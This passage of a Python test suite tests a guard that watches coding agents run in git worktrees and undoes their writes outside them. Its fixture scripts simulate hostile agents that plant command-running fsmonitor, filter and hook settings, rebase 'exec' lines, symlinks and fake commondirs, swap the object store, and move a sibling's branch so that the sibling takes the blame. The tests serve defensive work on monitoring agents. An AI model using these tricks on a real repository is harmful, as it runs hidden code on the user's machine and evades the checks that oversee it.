            git(repo, "worktree", "add", "-q", str(path), "w")
            copied = repo / ".git" / "worktrees" / "w" / "config.worktree"
            assert copied.is_file()  # git's copy, made while swarm provisions
            assert guard.scan() == []
        assert guard.scan() == []
        assert copied.is_file()
        # From then on the file is the worktree's like any other of git's files.
        copied.write_text(copied.read_text() + "[core]\n\tfsmonitor = true\n")
        found = guard.scan()
    finally:
        agent.kill()
        agent.wait()
    assert [(v.git_files, v.suspects) for v in found] == [
        (("worktrees/w/config.worktree",), ("other",))
    ]
    assert "fsmonitor" not in copied.read_text()


def test_worktrees_another_process_makes_and_removes_keep_gits_copy_and_lose_it(
    tmp_path: Path,
) -> None:
    # Another swarm command (a merge's worktree, a task of a run beside) runs `git worktree
    # add` and `remove`: git's copy of your sparse settings comes and goes with the admin dir.
    repo = sparse_repo(tmp_path)
    git(repo, "branch", "w")
    git(repo, "branch", "v")
    guard = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    guard.start()
    agent = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("other", identity_of(agent.pid))  # at work while the scans run
        git(repo, "worktree", "add", "-q", str(tmp_path / "w"), "w")
        git(repo, "worktree", "add", "-q", str(tmp_path / "v"), "v")
        assert guard.scan() == []
        git(repo, "worktree", "remove", str(tmp_path / "w"))
        assert guard.scan() == []
        # Not git's copy: what your own settings do not say.
        copied = repo / ".git" / "worktrees" / "v" / "config.worktree"
        copied.write_text(copied.read_text() + "[core]\n\tfsmonitor = true\n")
        planted = repo / ".git" / "worktrees" / "u" / "config.worktree"
        planted.parent.mkdir()
        planted.write_text("[core]\n\tfsmonitor = true\n")
        found = guard.scan()
    finally:
        agent.kill()
        agent.wait()
    assert [(v.git_files, v.suspects) for v in found] == [
        (("worktrees/u/config.worktree", "worktrees/v/config.worktree"), ("other",))
    ]
    assert "fsmonitor" not in copied.read_text()
    assert not planted.exists()


def test_gits_copies_of_sparse_settings_are_saved_for_a_resume_once_and_taken_by_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each worktree made copied your `config.worktree` into a new admin dir, and the guard
    # saved its whole baseline for a resume once per worktree. A resumed guard takes git's
    # copies as git's itself: they are saved with the next other change, or later.
    repo = sparse_repo(tmp_path)
    saves: list[int] = []
    real_save = surface_kept.save

    def save(guard_dir: Path, found: surface_entry.Surface) -> None:
        saves.append(len(found))
        real_save(guard_dir, found)

    monkeypatch.setattr(surface_kept, "save", save)
    monkeypatch.setattr(surface_checks, "SURFACE_SAVE_EVERY", 3600.0, raising=False)  # slow VM
    guard = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    guard.start()
    guard.keep_base_for_resume()
    paths = {f"t{i}": tmp_path / f"t{i}" for i in range(5)}
    saves.clear()
    for task_id, path in paths.items():
        with guard.provisioning(path):
            git(repo, "worktree", "add", "-q", "-b", f"swarm/{task_id}", str(path))
        assert guard.scan() == []
    assert len(saves) <= 1  # the first, when nothing was owed before
    copies = {t: repo / ".git" / "worktrees" / t / "config.worktree" for t in paths}
    assert all(c.is_file() for c in copies.values())
    # Its manager killed here, agents of the run went on: the next judges from what it saved.
    judge = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    assert judge.judge_ended_unwatched(paths) == []
    assert all(
        c.read_text() == (repo / ".git" / "config.worktree").read_text() for c in copies.values()
    )


# -- a repository inside the worktree ----------------------------------------------------------

# Makes `sub/`, a repository of its own whose config runs a program on every file git hashes,
# with a committed file then edited: a `git status` there would run the program. The
# checkpoint adds `sub` as a gitlink, so git looking inside it "recursively" would too.
NESTED = """
import pathlib, subprocess, sys
marker = sys.argv[1]
def git(*args):
    subprocess.run(['git', '-C', 'sub', *args], check=True, capture_output=True)
pathlib.Path('sub').mkdir()
git('init', '-q')
pathlib.Path('sub/f.txt').write_text('x\\n')
git('add', 'f.txt')
git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'sub')
git('config', 'filter.ev.clean', f'touch {marker}; cat')
pathlib.Path('sub/.git/info').mkdir(exist_ok=True)
pathlib.Path('sub/.git/info/attributes').write_text('* filter=ev\\n')
if sys.argv[2] == 'committed':  # committed by the agent itself: no `add` of swarm's adds it
    subprocess.run(['git', 'add', 'sub'], check=True, capture_output=True)
    subprocess.run(['git', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'sub'],
                   check=True, capture_output=True)
pathlib.Path('sub/f.txt').write_text('y\\n')  # same size: git must hash it
pathlib.Path('top.txt').write_text('own work\\n')
"""


@pytest.mark.long
@pytest.mark.parametrize("how", ["made", "committed"])
def test_swarms_git_never_looks_inside_a_repository_an_agent_made(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, how: str
) -> None:
    marker = tmp_path / "nested-filter-ran"
    run_one(repo, [*write_agent(NESTED), str(marker), how], sandbox=False, task="t")
    assert not marker.exists()
    row = status_json(repo)["t"]
    assert row["state"] == "failed", row
    assert "made a git repository inside its worktree (sub)" in str(row["reason"]), row
    assert git(repo, "show", "swarm/t:top.txt") == "own work"  # the rest is committed
    for command in (["status"], ["diff"], ["diff", "--stat"], ["clean"], ["doctor"]):
        swarm(repo, *command)
        assert not marker.exists(), command
    # Its own git, asked there, runs it: the test's attack is real.
    subprocess.run(["git", "status"], cwd=repo.parent / "repo.swarm" / "t" / "sub",
                   check=True, capture_output=True)  # fmt: skip
    assert marker.exists()


# A repository without a commit made in your checkout: git's `add` refuses it and adds
# nothing at all, so a scan that failed on it was blind to everything written after it.
UNBORN = (
    COMMON
    + """
where = repo / sys.argv[3]
subprocess.run(['git', 'init', '-q', str(where)], check=True)
subprocess.run(['git', 'config', '--file', str(where / '.git' / 'config'),
                'core.fsmonitor', f'touch {marker} #'], check=True)
(repo / 'src' / 'app.py').write_text('import os  # backdoor\\n')
(repo / 'src' / 'evil.py').write_text('planted\\n')
"""
)


@pytest.mark.long
@pytest.mark.parametrize("where", ["cache", "src"], ids=["new-dir", "your-dir"])
def test_a_repository_without_a_commit_made_in_your_checkout_hides_nothing_and_is_undone(
    tmp_path: Path, write_agent: AgentFactory, where: str
) -> None:
    repo = make_repo(tmp_path / "repo", {"src/app.py": "x = 1\n", "README.md": "hi\n"})
    (repo / "src" / "notes.txt").write_text("yours, untracked\n")
    before = checkout_state(repo)
    marker = tmp_path / "planted-fsmonitor-ran"
    run_one(repo, [*write_agent(UNBORN), str(repo), str(marker), where], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree" in str(row["reason"]), row
    reason = str(row["reason"])
    assert "main checkout; " in reason, row
    assert reason.endswith("; restored") or "; restored, patch " in reason, row
    assert not (repo / where / ".git").exists()
    assert checkout_state(repo) == before  # the backdoor, the new file: undone
    git(repo, "status")  # your next git there runs nothing it planted
    assert not marker.exists()


# Agent `a` points the HEAD of running sibling `b`'s worktree (in b's admin dir) at main.
FRAMER = """
import pathlib, subprocess, sys, time
marks = pathlib.Path(sys.argv[1])
while not (marks / 'b-running').exists():
    time.sleep(0.02)
common = pathlib.Path(subprocess.run(['git', 'rev-parse', '--path-format=absolute',
    '--git-common-dir'], capture_output=True, text=True, check=True).stdout.strip())
(common / 'worktrees' / 'b' / 'HEAD').write_text('ref: refs/heads/main\\n')
pathlib.Path('a.txt').write_text('a\\n')
(marks / 'a-done').touch()
"""
FRAMED = """
import pathlib, sys, time
marks = pathlib.Path(sys.argv[1])
pathlib.Path('b.txt').write_text('b\\n')
(marks / 'b-running').touch()
while not (marks / 'a-done').exists():
    time.sleep(0.02)
"""


# `a` switches its own worktree with git (the reflog says so) while `b` works beside it.
SWITCHER = """
import pathlib, subprocess, sys, time
marks = pathlib.Path(sys.argv[1])
while not (marks / 'b-running').exists():
    time.sleep(0.02)
subprocess.run(['git', 'switch', '-q', '-c', 'scratch'], check=True)
(marks / 'a-done').touch()
"""


def run_beside_b(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, source: str, framed: str = FRAMED
) -> dict[str, dict[str, object]]:
    """Run task `a` (*source*) while `b` (*framed*) works; the status rows after."""
    marks = tmp_path / "marks"
    marks.mkdir()
    a, b = [*write_agent(source), str(marks)], [*write_agent(framed), str(marks)]
    path = manifest(
        repo,
        f'[[task]]\nid = "a"\nprompt = "p"\nagent = {argv_toml(a)}\n'
        f'[[task]]\nid = "b"\nprompt = "p"\nagent = {argv_toml(b)}\n',
    )
    swarm(repo, "run", path)
    return status_json(repo)


def test_an_agent_switching_its_own_worktree_fails_alone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    rows = run_beside_b(repo, tmp_path, write_agent, SWITCHER)
    assert rows["a"]["state"] == "failed", rows["a"]
    assert "its agent switched its worktree from swarm/a to scratch" in str(rows["a"]["reason"])
    assert rows["b"]["state"] == "done", rows["b"]


def test_an_agent_that_switches_a_siblings_worktree_is_a_suspect_too(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    main = git(repo, "rev-parse", "main")
    rows = run_beside_b(repo, tmp_path, write_agent, FRAMER)
    assert rows["a"]["state"] == "failed", rows["a"]  # it went free, b took the blame
    assert "its worktree was switched from swarm/b to main" in str(rows["a"]["reason"])
    assert rows["b"]["state"] == "failed", rows["b"]
    assert "(or one of a, running at the same time)" in str(rows["b"]["reason"])
    assert git(repo, "rev-parse", "main") == main
    assert git(repo, "show", "swarm/b:b.txt") == "b"  # its work on its own branch


# Commits its own work, then points b's branch at it while b works (a commit of its choice,
# any author or secret, would go out with b's pull request).
MOVER = """
import pathlib, subprocess, sys, time
marks = pathlib.Path(sys.argv[1])
while not (marks / 'b-running').exists():
    time.sleep(0.02)
pathlib.Path('a.txt').write_text('a\\n')
subprocess.run(['git', 'add', 'a.txt'], check=True)
subprocess.run(['git', 'commit', '-qm', 'from a'], check=True)
subprocess.run(['git', 'update-ref', 'refs/heads/swarm/b', 'HEAD'], check=True)
(marks / 'a-done').touch()
"""


# Works until a moved its branch and the guard put it back (for a minute at most).
MOVED = """
import pathlib, subprocess, sys, time
marks = pathlib.Path(sys.argv[1])
head = lambda: subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout
start = head()
pathlib.Path('b.txt').write_text('b\\n')
(marks / 'b-running').touch()
while not (marks / 'a-done').exists():
    time.sleep(0.02)
deadline = time.monotonic() + 60
while head() != start and time.monotonic() < deadline:
    time.sleep(0.05)
"""


def test_an_agent_that_moves_a_working_siblings_branch_is_caught_and_the_branch_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    # A running task's branch was its own to move, whoever moved it: a's commit went onto
    # b's branch unseen, and out with b's work.
    rows = run_beside_b(repo, tmp_path, write_agent, MOVER, framed=MOVED)
    assert rows["a"]["state"] == "failed", rows["a"]
    assert "swarm/b" in str(rows["a"]["reason"]), rows["a"]
    assert rows["b"]["state"] == "done", rows["b"]
    assert git(repo, "show", "swarm/b:b.txt") == "b"
    assert "a.txt" not in git(repo, "ls-tree", "--name-only", "swarm/b")


# Your branch's loose ref file made unreadable: git then says "reference broken" (and your
# checkout "No commits yet") where it names it.
GARBLER = (
    COMMON
    + """
branch = subprocess.run(['git', '-C', str(repo), 'symbolic-ref', 'HEAD'],
                        capture_output=True, text=True, check=True).stdout.strip()
attempt(lambda: (common / branch).write_text('garbage\\n'))
"""
)


@pytest.mark.parametrize("sandbox", MODES)
def test_a_branch_of_yours_made_unreadable_is_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    # The put-back (`update-ref`) failed on the broken ref: "main moved; left as found".
    tip = git(repo, "rev-parse", "HEAD")
    run_one(repo, [*write_agent(GARBLER), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="main")
    assert git(repo, "rev-parse", "HEAD") == tip
    assert git(repo, "status", "--porcelain") == ""


ODD_NAMES = (
    COMMON
    + """
root = os.fsencode(str(repo))
with open(os.path.join(root, b'tracked-\\xe9.txt'), 'w') as fh:
    fh.write('changed by the agent\\n')
with open(os.path.join(root, b'evil-\\xff\\xfe.py'), 'w') as fh:
    fh.write('planted\\n')
os.mkdir(os.path.join(root, b'dir-\\xff'))
with open(os.path.join(root, b'dir-\\xff', b'inner.py'), 'w') as fh:
    fh.write('planted\\n')
"""
)


def test_writes_under_names_that_are_not_utf8_are_undone_and_named_as_git_quotes_them(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    tracked = repo / os.fsdecode(b"tracked-\xe9.txt")  # a Latin-1 name, as old tools made
    tracked.write_text("yours\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "an old name")
    before = sorted(repo.iterdir())
    run_one(repo, [*write_agent(ODD_NAMES), str(repo), str(tmp_path / "m")], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert '"evil-\\377\\376.py"' in str(row["reason"]), row
    assert str(row["reason"]).split("; ")[1].startswith("restored"), row
    assert sorted(repo.iterdir()) == before
    assert tracked.read_text() == "yours\n"


# Your index made unreadable: every comparison of your checkout fails from then on.
BLIND = (
    COMMON
    + """
(common / 'index').write_bytes(b'DIRC not an index at all')
(repo / 'README.md').write_text('changed while the guard could not look\\n')
"""
)


def test_an_index_of_yours_made_unreadable_is_put_back_and_the_rest_compared(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    run_one(repo, [*write_agent(BLIND), str(repo), str(tmp_path / "m")], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row  # it ended done: the guard failed open
    assert row["reason"] == (
        "wrote outside its worktree: its staged changes in the main checkout; restored"
    )
    found = [(w["summary"], w["restored"]) for w in outside_writes(repo)]
    assert ("files README.md in the main checkout", True) in found, found
    git(repo, "status")  # your index is yours again
    assert (repo / "README.md").read_text() == "hello\n"


def test_a_task_is_not_vouched_for_when_the_last_look_at_your_checkout_fails(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Whatever makes it fail (here a git that refuses the guard's capture of your checkout
    # once the agent has run): what the agent did there is unknown.
    ran = tmp_path / "agent-ran"
    git_first_on_path(tmp_path, monkeypatch, lambda real: (
        "#!/bin/sh\n"
        f'if [ -e {ran} ] && [ "${{GIT_INDEX_FILE##*/}}" = main.scratch-index ]; then\n'
        "  echo 'error: cannot look' >&2; exit 1\nfi\n"
        f'exec {real} "$@"\n'
    ))  # fmt: skip
    agent = write_agent(f"import pathlib\npathlib.Path({str(ran)!r}).touch()\n")
    run_one(repo, agent, sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row  # it ended done: the guard failed open
    assert str(row["reason"]).startswith(
        "not vouched for: the main checkout could not be checked at the end (`git "
    ), row
    assert str(row["reason"]).endswith("error: cannot look) while it ran"), row


# -- an operation in progress planted in the user's checkout -----------------------------------

IN_PROGRESS = (
    COMMON
    + """
what = sys.argv[3]
where = common / 'worktrees' / sys.argv[4] if sys.argv[4:] else common  # a linked one's admin
def plant():
    if what == 'rebase-merge':
        todo = where / 'rebase-merge'
        todo.mkdir()
        (todo / 'head-name').write_text((where / 'HEAD').read_text().removeprefix('ref: '))
        (todo / 'onto').write_text(subprocess.run(['git', 'rev-parse', 'HEAD'],
            capture_output=True, text=True, check=True).stdout)
        (todo / 'interactive').write_text('')
        (todo / 'git-rebase-todo').write_text(f'exec touch {marker}\\n')
    else:  # MERGE_HEAD: the next commit merges it; shallow: history ends there
        head = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True,
                              check=True).stdout
        (where / what).write_text(head)
attempt(plant)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize("what", ["rebase-merge", "MERGE_HEAD", "shallow"])
def test_an_operation_in_progress_planted_in_the_users_checkout_is_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, what: str, sandbox: bool
) -> None:
    marker = tmp_path / "planted-code-ran"
    before = repo_state(repo)
    run_one(repo, [*write_agent(IN_PROGRESS), str(repo), str(marker), what], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what=what)
    assert not (repo / ".git" / what).exists()
    assert repo_state(repo) == before
    # Nothing for the user's next `git rebase --continue` to go on with.
    again = subprocess.run(
        ["git", "rebase", "--continue"], cwd=repo, capture_output=True, check=False
    )
    assert again.returncode != 0
    assert not marker.exists()


@pytest.mark.parametrize("what", ["rebase-merge", "MERGE_HEAD"])
def test_an_operation_in_progress_planted_in_your_linked_worktree_is_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, what: str
) -> None:
    # In its admin dir: `git status` there says a rebase is going on, and your `git rebase
    # --continue` ran the planted `exec` line.
    mine = tmp_path / "mine"
    git(repo, "worktree", "add", "-q", "-b", "mine", str(mine))
    marker = tmp_path / "planted-code-ran"
    agent = [*write_agent(IN_PROGRESS), str(repo), str(marker), what, "mine"]
    run_one(repo, agent, sandbox=False)
    caught_or_impossible(repo, sandbox=False, what=f"worktrees/mine/{what}")
    assert not (repo / ".git" / "worktrees" / "mine" / what).exists()
    again = subprocess.run(
        ["git", "rebase", "--continue"], cwd=mine, capture_output=True, check=False
    )
    assert again.returncode != 0
    assert not marker.exists()


def husky_hooks(repo: Path, *checkouts: Path) -> None:
    """`core.hooksPath = .husky/_` (husky 9's): a directory of each checkout that git ignores."""
    git(repo, "config", "core.hooksPath", ".husky/_")
    for checkout in checkouts:
        hooks = checkout / ".husky" / "_"
        hooks.mkdir(parents=True)
        (hooks / ".gitignore").write_text("*\n")
        (hooks / "pre-commit").write_text("#!/bin/sh\n")
        (hooks / "pre-commit").chmod(0o755)


def test_a_hook_planted_in_your_linked_worktrees_own_hooks_directory_is_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    # A relative `core.hooksPath` (husky 9's `.husky/_`, ignored) names a directory in each
    # checkout: the one of your linked worktree was not watched, and your next commit there
    # ran the planted hook.
    mine = tmp_path / "mine"
    git(repo, "worktree", "add", "-q", "-b", "mine", str(mine))
    husky_hooks(repo, repo, mine)
    marker = tmp_path / "planted-code-ran"
    plant = f"""
import os, pathlib
hook = pathlib.Path({str(mine)!r}) / '.husky' / '_' / 'pre-commit'
hook.write_text('#!/bin/sh\\ntouch {marker}\\n')
pathlib.Path('own.txt').write_text('own work\\n')
"""
    run_one(repo, write_agent(plant), sandbox=False)
    caught_or_impossible(repo, sandbox=False, what=f"{mine}/.husky/_/pre-commit")
    assert (mine / ".husky/_/pre-commit").read_text() == "#!/bin/sh\n"
    git(mine, "commit", "-q", "--allow-empty", "-m", "yours")
    assert not marker.exists()


# -- your objects moved where swarm clean deletes them ----------------------------------------

# Moves objects/pack (argv[3] == "pack") or the fan-out directory of HEAD's commit into its
# worktree (ignored there) and leaves a link in its place: git finds every object, and the
# `swarm clean` that removes the worktree deletes your history.
MOVE_OBJECTS = (
    COMMON
    + """
import shutil
which = 'pack' if sys.argv[3] == 'pack' else subprocess.run(
    ['git', '-C', str(repo), 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout[:2]
there = common / 'objects' / which
kept = pathlib.Path('.cache-objects')
pathlib.Path('.gitignore').write_text('.cache-objects/\\n')
def move():
    shutil.copytree(there, kept)
    shutil.rmtree(there)
    there.symlink_to(kept.resolve(), target_is_directory=True)
attempt(move)
pathlib.Path('own.txt').write_text('own work\\n')
"""
)


@pytest.mark.long
@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize("which", ["pack", "fan-out"])
def test_your_objects_moved_into_a_worktree_are_put_back_and_survive_its_clean(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, which: str, sandbox: bool
) -> None:
    for i in range(3):
        (repo / "README.md").write_text(f"change {i}\n")
        git(repo, "commit", "-qam", f"change {i}")
    if which == "pack":
        git(repo, "gc", "-q")
    head = git(repo, "rev-parse", "HEAD")
    agent = [*write_agent(MOVE_OBJECTS), str(repo), str(tmp_path / "m"), which]
    run_one(repo, agent, sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="git's own files objects/")
    objects = repo / ".git" / "objects"
    assert not [p for p in [*objects.iterdir(), *(objects / "pack").iterdir()] if p.is_symlink()]
    assert swarm(repo, "clean", "--yes", "--force").returncode == 0
    assert git(repo, "rev-parse", "HEAD") == head
    assert "change 0" in git(repo, "log", "--format=%s", "main")
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


# Commits its work, moves the object store aside, makes an empty one that borrows from it
# (`alternates`: the sandbox keeps `objects/info` read-only only where the store was), and
# writes an object into that one.
SWAPS_THE_OBJECT_STORE = """
import pathlib, subprocess
g = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True,
).stdout.strip())
pathlib.Path('own.txt').write_text('own\\n')
subprocess.run(['git', 'add', 'own.txt'], check=True)
subprocess.run(['git', 'commit', '-q', '-m', 'own work'], check=True)
aside = g / AWAY
aside.parent.mkdir(parents=True, exist_ok=True)
(g / 'objects').rename(aside)
(g / 'objects' / 'info').mkdir(parents=True, exist_ok=True)  # the guard may be quicker
(g / 'objects' / 'info' / 'alternates').write_text(str(aside) + '\\n')
subprocess.run(['git', 'hash-object', '-w', '--stdin'], input='in the swapped store\\n',
               text=True, check=True)
"""


@pytest.mark.parametrize("sandbox", MODES)
@pytest.mark.parametrize("away", ["objects.orig", "refs/objects.orig"])  # deeper: overlooked
def test_an_object_store_swapped_for_another_is_named_and_put_back(
    repo: Path, write_agent: AgentFactory, sandbox: bool, away: str
) -> None:
    common = repo / ".git"
    before = (common / "objects").stat().st_ino
    agent = write_agent(SWAPS_THE_OBJECT_STORE.replace("AWAY", repr(away)))
    out = run_one(repo, agent, sandbox=sandbox)
    assert out.returncode == 1, out.stderr
    row = status_json(repo)["bad"]
    assert row["state"] == "failed"
    assert "git's own files objects" in str(row["reason"])
    swap = [w for w in outside_writes(repo) if w["git_files"] == ["objects"]]
    assert [(w["suspects"], w["restored"]) for w in swap] == [(["bad"], True)]
    told = Path(str(swap[0]["patch"])).read_text()
    assert told.startswith(
        "objects: another directory in place of the object store, which was moved to "
        f"{away}; put back (what was in its place is kept at "
    )
    assert (common / "objects").stat().st_ino == before
    assert sorted(p.name for p in common.glob("objects*")) == ["objects"]
    assert not (common / "refs" / "objects.orig").exists()
    assert not (common / "objects" / "info" / "alternates").exists()
    assert git(repo, "show", "swarm/bad:own.txt") == "own"
    blob = subprocess.run(
        ["git", "hash-object", "--stdin"], cwd=repo, input="in the swapped store\n",
        capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    assert git(repo, "cat-file", "-p", blob) == "in the swapped store"  # linked in
    assert git(repo, "fsck", "--no-dangling") == ""


# -- symlinks planted where the user's git writes ---------------------------------------------

LINKS = (
    COMMON
    + """
def plant():
    for name in ('COMMIT_EDITMSG', 'logs/refs/heads/main'):
        path = common / name
        path.unlink(missing_ok=True)
        path.symlink_to(marker)
attempt(plant)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_symlinks_planted_where_the_users_next_commit_writes_are_removed(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("the user's own file\n")
    run_one(repo, [*write_agent(LINKS), str(repo), str(victim)], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="COMMIT_EDITMSG")
    assert not (repo / ".git" / "COMMIT_EDITMSG").is_symlink()
    assert not (repo / ".git" / "logs" / "refs" / "heads" / "main").is_symlink()
    # The user's next commit writes its message and reflog in the repository, not through.
    git(repo, "commit", "-q", "--allow-empty", "-m", "the user's next commit")
    assert victim.read_text() == "the user's own file\n"


# A fake common dir: your next git would read its config (and run its fsmonitor).
COMMONDIR = (
    COMMON
    + """
def plant():
    evil = common / 'evil'
    evil.mkdir()
    for name in ('refs', 'objects', 'hooks', 'info', 'logs'):
        (evil / name).symlink_to(common / name)
    config = (common / 'config').read_text() + f'[core]\\n\\tfsmonitor = touch {marker}\\n'
    (evil / 'config').write_text(config)
    (common / 'commondir').write_text('evil\\n')
attempt(plant)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_commondir_planted_in_the_git_dir_never_points_your_git_elsewhere(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    marker = tmp_path / "planted-code-ran"
    run_one(repo, [*write_agent(COMMONDIR), str(repo), str(marker)], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="commondir")
    assert not (repo / ".git" / "commondir").exists()
    subprocess.run(["git", "status"], cwd=repo, check=True, capture_output=True)
    assert not marker.exists()


STEERING = (
    COMMON
    + """
what = sys.argv[3]
def plant():
    if what == 'rr-cache':  # a recorded resolution your next conflict would get unasked
        entry = common / 'rr-cache' / ('ab' * 20)
        entry.mkdir(parents=True)
        (entry / 'preimage').write_text('<<<<<<<\\nx\\n=======\\ny\\n>>>>>>>\\n')
        (entry / 'postimage').write_text('the agent decides\\n')
    else:  # an old-style remote: your `git pull upstream` would fetch from elsewhere
        (common / 'remotes').mkdir(exist_ok=True)
        (common / 'remotes' / 'upstream').write_text(f'URL: {marker}\\n')
attempt(plant)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize("what", ["rr-cache", "remotes"])
def test_what_would_steer_your_merges_or_fetches_is_removed(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool, what: str
) -> None:
    run_one(repo, [*write_agent(STEERING), str(repo), str(tmp_path / "elsewhere"), what],
            sandbox=sandbox)  # fmt: skip
    caught_or_impossible(repo, sandbox=sandbox, what=what)
    assert not (repo / ".git" / what).exists()


def test_with_rerere_on_an_agent_that_commits_is_not_taken_for_a_steering_write(
    repo: Path, write_agent: AgentFactory
) -> None:
    git(repo, "config", "rerere.enabled", "true")  # any commit then makes .git/rr-cache, empty
    assert not (repo / ".git" / "rr-cache").exists()
    agent = write_agent(
        "import pathlib, subprocess\npathlib.Path('out.txt').write_text('x')\n"
        "subprocess.run(['git', 'add', 'out.txt'], check=True)\n"
        "subprocess.run(['git', 'commit', '-qm', 'work'], check=True)\n"
    )

    out = run_one(repo, agent, sandbox=False, task="good")

    assert out.returncode == 0, out.stdout + out.stderr
    assert status_json(repo)["good"]["state"] == "done"
    assert outside_writes(repo) == []


SYMREF = (
    COMMON
    + """
import subprocess
def plant():
    # Same commit: the branch looks unmoved, but your checkout is now on the agent's branch.
    subprocess.run(['git', 'symbolic-ref', 'refs/heads/main', 'refs/heads/swarm/bad'], check=True)
attempt(plant)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_your_branch_made_a_symbolic_ref_is_made_a_branch_again(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    before = repo_state(repo)
    run_one(repo, [*write_agent(SYMREF), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="main")
    symbolic = subprocess.run(["git", "symbolic-ref", "-q", "refs/heads/main"], cwd=repo,
                              capture_output=True, text=True, check=False)  # fmt: skip
    assert symbolic.returncode != 0, symbolic.stdout
    assert git(repo, "branch", "--show-current") == "main"
    assert repo_state(repo) == before


REFDIR = (
    COMMON
    + """
def plant():
    tags = common / 'refs' / 'tags'
    if tags.is_dir() and not any(tags.iterdir()):
        tags.rmdir()
    tags.symlink_to(marker, target_is_directory=True)
attempt(plant)
"""
)


def test_a_ref_directory_swapped_for_a_symlink_is_removed(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    run_one(repo, [*write_agent(REFDIR), str(repo), str(victim)], sandbox=False)
    caught_or_impossible(repo, sandbox=False, what="refs/tags")
    assert not (repo / ".git" / "refs" / "tags").is_symlink()
    git(repo, "tag", "later")  # the user's next tag is written in the repository
    assert list(victim.iterdir()) == []


@needs_bwrap
@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can write the kernel's knobs at all")
def test_a_sandboxed_agent_run_as_root_cannot_write_the_kernels_knobs(
    repo: Path, write_agent: AgentFactory
) -> None:
    # Opened for writing, not written: the test never touches the machine's settings.
    agent = write_agent(
        "import errno, pathlib\n"
        "try:\n"
        "    open('/proc/sys/kernel/core_pattern', 'r+').close()\n"
        "    said = 'writable'\n"
        "except OSError as exc:\n"
        "    said = errno.errorcode[exc.errno]\n"
        "pathlib.Path('said.txt').write_text(said)\n"
    )
    run_one(repo, agent, sandbox=True, task="t")
    assert git(repo, "show", "swarm/t:said.txt") == "EROFS"


# -- a worktree pointed elsewhere --------------------------------------------------------------

REDIRECT = """
import os, pathlib, subprocess, sys
how = sys.argv[1]
here = pathlib.Path.cwd()
main = pathlib.Path(subprocess.run(['git', 'rev-parse', '--path-format=absolute',
    '--git-common-dir'], capture_output=True, text=True, check=True).stdout.strip())
pathlib.Path('work.txt').write_text('own work\\n')
if how == 'dotgit':  # git in the worktree now works on the user's checkout's git dir
    (here / '.git').write_text(f'gitdir: {main}\\n')
else:  # the worktree is now the user's checkout
    os.chdir('/')
    here.rename(here.with_name(here.name + '.moved'))
    here.symlink_to(main.parent)
"""


@pytest.mark.parametrize("how", ["dotgit", "symlink"])
def test_a_worktree_an_agent_points_elsewhere_gets_no_git_from_swarm(
    repo: Path, write_agent: AgentFactory, how: str
) -> None:
    (repo / "wip.txt").write_text("the user's own notes\n")  # untracked, the user's
    before = repo_state(repo)
